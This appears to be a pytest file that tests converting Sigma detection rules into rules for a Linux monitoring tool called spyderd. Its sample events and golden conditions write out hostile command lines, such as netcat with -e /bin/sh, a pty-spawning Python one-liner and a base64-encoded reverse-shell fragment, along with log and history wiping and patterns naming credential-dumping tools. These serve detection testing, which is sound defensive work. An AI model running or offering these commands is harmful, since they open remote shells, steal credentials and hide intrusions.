"""Sigma rules to spyderd rules: the corpus in tests/sigma/corpus (every mapped log source and
modifier, correlations, unsupported constructs) converted through the pySigma backend; each
converted rule passes `spyderd --check` and matches what it is about; the report names every
rule left out and why; `sigma convert -t spyderd` finds the backend as a plugin."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from spyderd.model import AcceptEvent, ConnectEvent, ExecEvent, FileEvent, Node
from spyderd.rules import DictContext, load_rules
from spyderd.sigma.importer import import_sigma

REPO = Path(__file__).resolve().parents[2]
CORPUS = REPO / "tests/sigma/corpus"
ENV = dict(os.environ, PYTHONPATH=str(REPO))

# every corpus file whose rules must not convert, and why
UNSUPPORTED = {
    "unsupported_windows.yml": "log source not captured by spyderd",
    "unsupported_hashes.yml": "Sigma field 'Hashes' has no spyderd equivalent",
    "unsupported_fieldref.yml": "Field reference expression is not supported",
    "unsupported_port_wildcard.yml": "wildcards on connection.remote_port (int) cannot be",
    "unsupported_temporal.yml": "temporal (unordered) correlation: spyderd sequences are ordered",
    "unsupported_count_lt.yml": "condition lt: spyderd fires when a count reaches a threshold",
}


@pytest.fixture(scope="module")
def report():
    return import_sigma([CORPUS])


@pytest.fixture(scope="module")
def converted(report, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("sigma") / "sigma.yaml"
    out.write_text(report.yaml(), encoding="utf-8")
    return out


def by_title(report) -> dict[str, dict]:
    return {e["rule"]: e for e in report.converted}


def test_corpus_size_and_what_is_left_out(report) -> None:
    files = sorted(p.name for p in CORPUS.glob("*.yml"))
    assert len(files) >= 30
    skipped = {Path(s.file).name: s for s in report.skipped}
    assert set(skipped) == set(UNSUPPORTED)
    for name, reason in UNSUPPORTED.items():
        assert reason in skipped[name].reason, (name, skipped[name].reason)
        assert skipped[name].id.startswith("5b0d0c1e-") and skipped[name].title
    assert len(report.converted) == 30


def test_converted_rules_pass_spyderd_check(converted) -> None:
    rs = load_rules([converted])
    assert len(rs.rules) == 30 and rs.warnings == []
    r = subprocess.run([sys.executable, "-m", "spyderd", "--check", "--rules", str(converted)],
                       check=False, capture_output=True, text=True, env=ENV, cwd=REPO, timeout=120)  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert "30 rules ok" in r.stdout


def test_every_mapped_log_source_is_covered(report) -> None:
    kinds = {str(e.get("event")) for e in report.converted}
    assert {"exec", "['connect', 'accept']", "file", "alert"} <= kinds
    sources = {yaml.safe_load(p.read_text().split("---")[0])["logsource"].get("category")
               or yaml.safe_load(p.read_text())["logsource"].get("service")
               for p in CORPUS.glob("*.yml") if not p.name.startswith("unsupported")}  # fmt: skip
    from spyderd.sigma.pipeline import SOURCES

    assert {s.category or s.service for s in SOURCES} <= sources


def test_metadata_carried_over(report) -> None:
    rule = by_title(report)["Netcat with exec option"]
    assert rule["severity"] == "high"
    assert rule["tags"] == ["execution", "T1059.004"]
    assert rule["sigma_id"] == "5b0d0c1e-0000-4000-8000-000000000001"
    assert "False positives: Administrators testing ports." in rule["description"]
    assert "Downloader run (base)" not in by_title(report)


@pytest.mark.parametrize(
    "title, condition",
    [
        ("Netcat with exec option", ('(process.exe iendswith "/nc" or process.exe iendswith '
         '"/ncat" or process.exe iendswith "/netcat") and (process.cmdline icontains " -e " or '
         'process.cmdline icontains " -c ")')),
        ("Case-sensitive hidden binary name", 'process.exe endswith "/.X11-unix/X0"'),
        ("Shell history cleared",
         'process.cmdline matches "(?i)history\\\\s+-c|rm\\\\s+(-f\\\\s+)?\\\\S*_history"'),
        ("Python one-liner spawning a pty",
         'process.cmdline imatches "^python.*-c.*pty\\\\.spawn.*$"'),
        ("Keyword search for mimipenguin",
         'process.cmdline imatches "mimipenguin" or process.cmdline imatches "linpeas"'),
        ("Crontab edited by a user process", 'process.exe iendswith "/crontab" and process.pid >= 2'),
        ("Log file deleted", 'file.op i= "unlink" and file.changed_path istartswith "/var/log/"'),
        ("Interpreter connecting to a high port",
         'process.exe icontains "python" and connection.remote_port > 40000'),
    ],
)  # fmt: skip
def test_golden_conditions(report, title: str, condition: str) -> None:
    assert by_title(report)[title]["condition"] == condition


def test_correlations_map_to_aggregate_and_sequence(report) -> None:
    rules = by_title(report)
    burst = rules["Discovery burst from one parent"]
    assert burst["aggregate"] == {"by": ["process.ppid"], "count": 3, "within": "60s"}
    ports = rules["One program connecting to many ports"]
    assert ports["aggregate"] == {"by": ["process.exe"], "count": 10, "within": "30s",
                                  "distinct": "connection.remote_port"}  # fmt: skip
    seq = rules["Download then chmod +x"]
    assert [s["event"] for s in seq["sequence"]] == ["exec", "exec"]
    assert seq["within"] == "300s"


def proc(exe: str, args: list[str], **attrs) -> Node:
    return Node("p1", "process", pid=77, ppid=1, attrs={"exe": exe, "args": args, **attrs})


CASES = [
    ("Netcat with exec option", proc("/usr/bin/NC", ["nc", "-e", "/bin/sh", "h", "1"]), None, True),
    ("Netcat with exec option", proc("/usr/bin/nc", ["nc", "-z", "h", "1"]), None, False),
    ("Case-sensitive hidden binary name", proc("/tmp/.X11-unix/X0", ["X0"]), None, True),
    ("Case-sensitive hidden binary name", proc("/tmp/.x11-unix/x0", ["x0"]), None, False),
    ("Shell history cleared", proc("/bin/bash", ["bash", "-c", "HISTORY  -c"]), None, True),
    ("Base64 decode piped to a shell",
     proc("/bin/sh", ["sh", "-c", "echo eA== | base64 -d | sh"]), None, True),
    ("Base64 literal of a reverse shell",
     proc("/bin/sh", ["sh", "-c", "echo L2Rldi90Y3AvMS4yLjMuNC80NDQ0 | base64 -d"]), None, True),
    ("Encoded curl payload", proc("/bin/sh", ["sh", "-c", "echo Y3VybCBodHRwOi8v | base64 -d"]),
     None, True),
    ("Netcat listener via dash variants", proc("/bin/nc", ["nc", "/l", "-p", "80"]), None, True),
    ("Python one-liner spawning a pty",
     proc("/usr/bin/python3", ["python3", "-c", "import pty; pty.spawn('/bin/sh')"]), None, True),
    ("Keyword search for mimipenguin", proc("/bin/sh", ["sh", "MimiPenguin.sh"]), None, True),
    ("Interpreter run from /dev/shm working directory",
     proc("/usr/bin/perl", ["perl", "x"], cwd="/dev/shm/x"), None, True),
    ("Setuid shell copy run by a user", proc("/tmp/.suid_sh", ["sh"], user="bob"), None, True),
    ("Setuid shell copy run by a user", proc("/tmp/.suid_sh", ["sh"]), None, False),
    ("Connection to a reverse shell port", proc("/usr/bin/python3", ["python3"]),
     ConnectEvent(time=1, pid=77, family=4, local_ip="10.0.0.2", local_port=40000, remote_ip="10.1.1.1", remote_port=4444), True),
    ("Connection to a reverse shell port", proc("/usr/bin/python3", ["python3"]),
     AcceptEvent(time=1, pid=77, family=4, local_ip="10.0.0.2", local_port=22, remote_ip="10.1.1.1", remote_port=4444), False),
    ("Shell connecting to a private network", proc("/bin/bash", ["bash"]),
     ConnectEvent(time=1, pid=77, family=4, local_ip="10.0.0.2", local_port=40000, remote_ip="::ffff:192.168.1.9", remote_port=80), True),
    ("Shell connecting to a private network", proc("/bin/bash", ["bash"]),
     ConnectEvent(time=1, pid=77, family=4, local_ip="10.0.0.2", local_port=40000, remote_ip="8.8.8.8", remote_port=80), False),
    ("Inbound connection to a shell", proc("/bin/sh", ["sh"]),
     AcceptEvent(time=1, pid=77, family=4, local_ip="10.0.0.2", local_port=22, remote_ip="8.8.8.8", remote_port=80), True),
    ("Cron file created", proc("/usr/bin/tee", ["tee"]),
     FileEvent(time=1, pid=77, op="create", path="/ETC/CRON.D/x"), True),
    ("Log file deleted", proc("/bin/rm", ["rm"]),
     FileEvent(time=1, pid=77, op="unlink", path="/var/log/syslog"), True),
    ("Log file deleted", proc("/bin/rm", ["rm"]),
     FileEvent(time=1, pid=77, op="truncate", path="/var/log/syslog"), False),
    ("File renamed over the password database", proc("/usr/bin/python3", ["python3"]),
     FileEvent(time=1, pid=77, op="rename", path="/tmp/p", path2="/etc/passwd"), True),
    ("File renamed over the password database", proc("/usr/sbin/useradd", ["useradd"]),
     FileEvent(time=1, pid=77, op="rename", path="/etc/passwd+", path2="/etc/passwd"), False),
]  # fmt: skip


@pytest.mark.parametrize("title, node, ev, expected", CASES)
def test_converted_rule_semantics(converted, title: str, node: Node, ev, expected: bool) -> None:
    rs = load_rules([converted])
    rule = rs.get(title)
    ev = ev or ExecEvent(time=1, pid=77, filename=node.attrs["exe"], args=node.attrs["args"])
    assert rule.predicate(ev, node, DictContext.of(node), []) is expected


def test_sigma_cli_finds_the_backend_plugin(tmp_path: Path) -> None:
    sigma = str(Path(sys.executable).parent / "sigma")  # installed by packaging/install.sh
    r = subprocess.run([sigma, "list", "targets"], check=False, capture_output=True, text=True, env=ENV,
                       cwd=tmp_path, timeout=120)  # fmt: skip
    assert "spyderd" in r.stdout, r.stdout + r.stderr
    r = subprocess.run([sigma, "convert", "-t", "spyderd", str(CORPUS / "proc_nc_exec.yml")],
                       check=False, capture_output=True, text=True, env=ENV, cwd=tmp_path, timeout=120)  # fmt: skip
    assert r.returncode == 0, r.stderr
    out = tmp_path / "out.yaml"
    out.write_text(r.stdout.split("\n", 1)[1] if r.stdout.startswith("Parsing") else r.stdout)
    (rule,) = load_rules([out]).rules
    assert rule.sigma_id == "5b0d0c1e-0000-4000-8000-000000000001"
